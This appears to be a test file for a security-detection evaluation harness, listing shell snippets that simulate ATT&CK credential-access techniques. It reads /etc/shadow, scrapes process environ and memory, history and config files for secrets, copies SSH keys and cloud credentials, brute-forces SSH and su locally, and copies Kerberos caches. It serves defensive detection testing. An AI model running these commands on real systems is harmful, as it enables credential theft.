# Credential access (TA0006).

#@ id=cred-shadow-read kind=attack tactic=credential_access technique=T1003.008 signal=file title=Read /etc/shadow with cat
cat /etc/shadow >/dev/null

#@ id=cred-shadow-copy kind=attack tactic=credential_access technique=T1003.008 signal=file title=Copy of passwd and shadow for offline cracking
cp /etc/shadow ./s.txt; cp /etc/passwd ./p.txt; rm -f s.txt p.txt

#@ id=cred-proc-environ kind=attack tactic=credential_access technique=T1552 signal=procfs title=Another process's environment read through /proc/PID/environ
env DB_PASSWORD=hunter2 sleep 5 & victim=$!
sleep 0.2; tr '\0' '\n' < /proc/$victim/environ | grep -i password; kill $victim

#@ id=cred-proc-mem kind=attack tactic=credential_access technique=T1003.007 signal=procfs title=Another process's memory read through /proc/PID/mem
python3 -c 'import time; s="SECRET-TOKEN-abc123"; time.sleep(5)' & victim=$!
sleep 0.3
python3 - $victim <<'PY'
import re, sys
pid = sys.argv[1]
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
    for line in maps:
        if "[heap]" not in line: continue
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        mem.seek(lo); data = mem.read(min(hi - lo, 1 << 22))
        print("found" if b"SECRET-TOKEN" in data else "not found")
PY
kill $victim

#@ id=cred-history-hunt kind=attack tactic=credential_access technique=T1552.003 signal=exec title=Credential hunting in shell history files
grep -Ei 'pass|token|secret|mysql -p' /root/.bash_history /home/*/.bash_history 2>/dev/null | head; cat /root/.bash_history >/dev/null 2>&1; true

#@ id=cred-files-grep kind=attack tactic=credential_access technique=T1552.001 signal=exec title=Grep for passwords in configuration files
grep -rIiE 'password\s*=|passwd|api_key' /etc 2>/dev/null | head -20; true

#@ id=cred-ssh-keys kind=attack tactic=credential_access technique=T1552.004 signal=file title=Private SSH keys collected from home directories
mkdir -p loot; find /root/.ssh /home/*/.ssh -name 'id_*' ! -name '*.pub' -exec cp {} loot/ \; 2>/dev/null
cat /root/.ssh/id_* 2>/dev/null >/dev/null; true

#@ id=cred-ssh-bruteforce kind=attack tactic=credential_access technique=T1110.001 signal=network title=SSH password guessing against a loopback sshd-like port
listen_tcp "$EVAL_PORT"
for i in $(seq 1 15); do timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 -p "$EVAL_PORT" "root@127.0.0.1" true 2>/dev/null; done; true

#@ id=cred-su-bruteforce kind=attack tactic=credential_access technique=T1110.001 signal=exec title=su password guessing from an unprivileged account
# Three waves of four parallel guesses: each failure costs su PAM's ~2 s delay, so a sequential
# run of 12 would outlast the case timeout.
for wave in 1 2 3; do
    for i in 1 2 3 4; do (echo "guess$wave$i" | timeout 4 setpriv --reuid=65534 --regid=65534 --clear-groups su root -c true 2>/dev/null) & done
    wait
done; true

#@ id=cred-aws-keys kind=attack tactic=credential_access technique=T1552.001 signal=file title=Cloud credential files read
find / -xdev -maxdepth 4 -path '*/.aws/credentials' 2>/dev/null; cat /root/.aws/credentials /root/.config/gcloud/credentials.db 2>/dev/null; true

#@ id=cred-kerberos-ccache kind=attack tactic=credential_access technique=T1558.005 signal=file title=Kerberos ticket cache copied from /tmp
cc=/tmp/krb5cc_65534_eval$$; at_exit "rm -f $cc"
head -c 600 /dev/urandom > "$cc"; chown 65534 "$cc"; chmod 600 "$cc"
ls /tmp/krb5cc_* >/dev/null; cp "$cc" ./stolen.ccache
